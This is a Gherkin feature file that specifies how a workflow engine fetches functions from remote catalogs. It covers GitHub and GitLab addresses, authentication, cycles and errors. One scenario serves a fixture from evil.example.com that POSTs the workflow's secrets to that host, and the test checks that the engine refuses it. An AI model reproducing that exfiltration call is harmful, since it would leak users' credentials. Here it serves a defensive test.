Feature: Catalogs
  `call` may name a function that stands elsewhere: `name:version@catalog`, a URL, or (in a function) a path relative to
  the function's own document. It is fetched when the workflow is deployed, so that all executions of a version perform
  the same function. A function's document is one task; it sees the arguments that it is given, and none of the secrets
  and definitions of the workflow that calls it.

  @decision-22
  Scenario: A function of a catalog is performed with the arguments of the call
    Given a workflow that says:
      """yaml
      use:
        catalogs:
          shop: {endpoint: 'https://functions.example.com/catalog'}
      do:
        - price: {call: 'net:1.0.0@shop', with: {gross: 119}}
      """
    And the service 'functions.example.com' answers:
      """yaml
      - on: GET /catalog/functions/net/1.0.0/function.yaml
        body: |
          input:
            schema: {document: {type: object, required: [gross]}}
          set: {net: '${ .gross / 1.19 }'}
      """
    When the workflow is executed
    Then the workflow should complete with output:
      """yaml
      {net: 100}
      """
    And the tasks should run in order price, price

  Scenario: A page of GitHub stands for the raw document behind it
    Given a workflow that says:
      """yaml
      use:
        catalogs:
          tree: {endpoint: {uri: 'https://github.com/acme/catalog/tree/main'}}
          tagged: {endpoint: {uri: 'https://github.com/acme/catalog/tree/v1.2.0/'}}
          bare: {endpoint: {uri: 'https://github.com/acme/catalog'}}
      do:
        - one: {call: 'a:1.0.0@tree', with: {}}
        - two: {call: 'a:1.0.0@tagged', with: {}}
        - three: {call: 'a:1.0.0@bare', with: {}}
        - four: {call: 'https://github.com/acme/functions/blob/main/a.yaml', with: {}}
        - five: {call: 'https://github.com/acme/functions/check/mail@v1.0.0', with: {}}
      """
    And the service 'raw.githubusercontent.com' answers:
      """yaml
      - {on: GET /acme/catalog/refs/heads/main/functions/a/1.0.0/function.yaml, body: 'set: {n: 1}'}
      - {on: GET /acme/catalog/v1.2.0/functions/a/1.0.0/function.yaml, body: 'set: {n: 2}'}
      - {on: GET /acme/catalog/HEAD/functions/a/1.0.0/function.yaml, body: 'set: {n: 3}'}
      - {on: GET /acme/functions/refs/heads/main/a.yaml, body: 'set: {n: 4}'}
      - {on: GET /acme/functions/v1.0.0/check/mail/function.yaml, body: 'set: {n: 5}'}
      """
    When the workflow is executed
    Then the workflow should complete with output:
      """yaml
      {n: 5}
      """
    And one should complete with output:
      """yaml
      {n: 1}
      """
    And the tasks should run in order one, one, two, two, three, three, four, four, five, five

  Scenario: A page of GitLab does too, on any host
    Given a workflow that says:
      """yaml
      use:
        catalogs:
          tools: {endpoint: {uri: 'https://git.example.com/group/sub/catalog/-/tree/main/public?ref_type=heads'}}
      do:
        - one: {call: 'a:1.0.0@tools', with: {}}
      """
    And the service 'git.example.com' answers:
      """yaml
      - {on: GET /group/sub/catalog/-/raw/main/public/functions/a/1.0.0/function.yaml, body: 'set: {n: 1}'}
      """
    When the workflow is executed
    Then the workflow should complete with output:
      """yaml
      {n: 1}
      """
    And the tasks should run in order one, one

  Scenario: The default catalog is the installation's own, and nobody has to declare it
    Given a workflow that says:
      """yaml
      do:
        - greet: {call: 'greet:1.0.0@default', with: {name: Ada}}
      """
    And the default catalog is 'https://functions.example.com'
    And the service 'functions.example.com' answers:
      """yaml
      - {on: GET /functions/greet/1.0.0/function.yaml, body: {set: '${ "Hello, " + .name }'}}
      """
    When the workflow is executed
    Then the workflow should complete with output:
      """yaml
      Hello, Ada
      """
    And the tasks should run in order greet, greet

  Scenario: A workflow may put a catalog of its own in the place of the default one
    Given a workflow that says:
      """yaml
      use:
        catalogs:
          default: {endpoint: 'https://mine.example.com'}
      do:
        - greet: {call: 'greet:1.0.0@default', with: {}}
      """
    And the default catalog is 'https://functions.example.com'
    And the service 'mine.example.com' answers:
      """yaml
      - {on: GET /functions/greet/1.0.0/function.yaml, body: {set: {mine: true}}}
      """
    When the workflow is executed
    Then the workflow should complete with output:
      """yaml
      {mine: true}
      """
    And the tasks should run in order greet, greet

  Scenario: A catalog may ask for an authentication, which may come from a secret
    Given a workflow that says:
      """yaml
      use:
        secrets: [token]
        authentications:
          readers: {bearer: {token: '${ $secrets.token }'}}
        catalogs:
          shop: {endpoint: {uri: 'https://functions.example.com', authentication: {use: readers}}}
      do:
        - one: {call: 'a:1.0.0@shop', with: {}}
      """
    And the secrets are:
      """yaml
      token: t0ken
      """
    And the service 'functions.example.com' answers:
      """yaml
      - {body: {set: {n: 1}}}
      """
    When the workflow is executed
    Then the workflow should complete with output:
      """yaml
      {n: 1}
      """
    And the tasks should run in order one, one
    And the service 'functions.example.com' should have received:
      """yaml
      - {headers: {authorization: Bearer t0ken}}
      """

  Scenario: A function names what stands beside it, and functions of the workflow's catalogs
    Given a workflow that says:
      """yaml
      use:
        catalogs:
          shop: {endpoint: 'https://functions.example.com'}
      do:
        - ask: {call: 'quote:1.0.0@shop', with: {amount: 2}}
      """
    And the service 'functions.example.com' answers:
      """yaml
      - on: GET /functions/quote/1.0.0/function.yaml
        body: |
          input: {schema: {resource: {endpoint: input.json}}}
          do:
            - doubled: {call: ../../double/1.0.0/function.yaml, with: {n: '${ .amount }'}}
            - again: {call: 'double:1.0.0@shop', with: {n: '${ . }'}}
      - {on: GET /functions/quote/1.0.0/input.json, body: {required: [amount]}}
      - {on: GET /functions/double/1.0.0/function.yaml, body: {set: '${ .n * 2 }'}}
      """
    When the workflow is executed
    Then the workflow should complete with output:
      """yaml
      8
      """
    And the tasks should run in order ask, ask, doubled, doubled, again, again
    And the service 'functions.example.com' should have received 3 requests

  Scenario: A function cannot read the secrets of the workflow
    Given a workflow that says:
      """yaml
      use:
        secrets: [token]
      do:
        - steal: {call: 'https://evil.example.com/function.yaml', with: {}}
      """
    And the secrets are:
      """yaml
      token: t0ken
      """
    And the service 'evil.example.com' answers:
      """yaml
      - body: |
          call: http
          with: {method: post, endpoint: 'https://evil.example.com/', body: '${ $secrets }'}
      """
    When the document is checked
    Then the document should be refused at '5:19':
      """
      is wrong at https://evil.example.com/function.yaml:2:71: a function cannot read secrets
      """

  Scenario: A function that leads back to itself is refused
    Given a workflow that says:
      """yaml
      do:
        - turn: {call: 'https://functions.example.com/a.yaml', with: {}}
      """
    And the service 'functions.example.com' answers:
      """yaml
      - {on: GET /a.yaml, body: {do: [{next: {call: ./b.yaml}}]}}
      - {on: GET /b.yaml, body: {do: [{next: {call: ./a.yaml}}]}}
      """
    When the document is checked
    Then the document should be refused at '3:18':
      """
      in a circle: https://functions.example.com/a.yaml → https://functions.example.com/b.yaml → https://functions.example.com/a.yaml
      """

  Scenario: All that is wrong is told at once, where the workflow names it
    Given a workflow that says:
      """yaml
      use:
        catalogs:
          shop: {endpoint: 'https://functions.example.com'}
      do:
        - absent: {call: 'absent:1.0.0@shop', with: {}}
        - broken: {call: 'broken:1.0.0@shop', with: {}}
        - page: {call: 'page:1.0.0@shop', with: {}}
      """
    And the service 'functions.example.com' answers:
      """yaml
      - {on: GET /functions/broken/1.0.0/function.yaml, body: "set: {a: 1}\nthen: [1]\n"}
      - {on: GET /functions/page/1.0.0/function.yaml, body: '<!DOCTYPE html><html></html>'}
      """
    When the document is checked
    Then the document should be refused at '6:20':
      """
      functions/absent/1.0.0/function.yaml answered 404 Not Found; check the address, the name and the version
      """
    And the document should be refused at '7:20':
      """
      function.yaml:2:1: 'then' must be text
      """
    And the document should be refused at '8:18':
      """
      this is a web page
      """

  Scenario: An address that is only known later cannot be fetched before
    Given a workflow that says:
      """yaml
      use:
        catalogs:
          shop: {endpoint: '${ .catalog }'}
      do:
        - one: {call: 'a:1.0.0@shop', with: {}}
      """
    When the document is checked
    Then the document should be refused at '4:22':
      """
      the address of the catalog 'shop' is computed
      """
